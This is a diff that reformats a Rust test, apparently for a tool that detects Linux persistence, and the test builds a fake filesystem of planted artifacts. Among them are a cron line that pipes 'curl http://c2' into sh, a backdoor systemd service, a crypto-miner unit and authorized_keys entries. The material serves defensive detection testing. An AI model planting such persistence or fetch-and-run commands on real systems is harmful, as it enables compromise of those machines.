@@ -32,14 +32,22 @@ fn fake_root_persistence() {
     write(r, "etc/cron.d/evil", "*/5 * * * * root curl http://c2 | sh\n");
     write(r, "etc/cron.daily/logrotate", "#!/bin/sh\n");
     write(r, "var/spool/cron/crontabs/bob", "@reboot /home/bob/.m\n");
-    write(r, "etc/systemd/system/backdoor.service", "[Service]\nExecStart=/opt/bd\n");
+    write(
+        r,
+        "etc/systemd/system/backdoor.service",
+        "[Service]\nExecStart=/opt/bd\n",
+    );
     std::fs::create_dir_all(r.join("etc/systemd/system/multi-user.target.wants")).unwrap();
     std::os::unix::fs::symlink(
         "/etc/systemd/system/backdoor.service",
         r.join("etc/systemd/system/multi-user.target.wants/backdoor.service"),
     )
     .unwrap();
-    write(r, "home/bob/.config/systemd/user/miner.service", "[Service]\nExecStart=/home/bob/xmrig\n");
+    write(
+        r,
+        "home/bob/.config/systemd/user/miner.service",
+        "[Service]\nExecStart=/home/bob/xmrig\n",
+    );
     write(
         r,
         "home/bob/.ssh/authorized_keys",
@@ -110,11 +118,17 @@ fn fake_root_persistence() {
     assert!(wants["mtime_ms"].as_i64().unwrap() > 0);
 
     let keys = p["authorized_keys"]["items"].as_array().unwrap();
-    let bob = keys.iter().find(|k| k["file"]["path"] == "/home/bob/.ssh/authorized_keys").unwrap();
+    let bob = keys
+        .iter()
+        .find(|k| k["file"]["path"] == "/home/bob/.ssh/authorized_keys")
+        .unwrap();
     assert_eq!(bob["keys"][0]["key_type"], "ssh-ed25519");
     assert_eq!(bob["keys"][0]["comment"], "bob@laptop");
     assert!(bob["keys"][0]["fingerprint"].as_str().unwrap().starts_with("SHA256:"));
-    let root_keys = keys.iter().find(|k| k["file"]["path"] == "/root/.ssh/authorized_keys").unwrap();
+    let root_keys = keys
+        .iter()
+        .find(|k| k["file"]["path"] == "/root/.ssh/authorized_keys")
+        .unwrap();
     assert_eq!(root_keys["file"]["kind"], "symlink");
     assert!(root_keys["keys"].as_array().unwrap().is_empty());
     assert!(!String::from_utf8_lossy(&bytes).contains("$6$secret"));
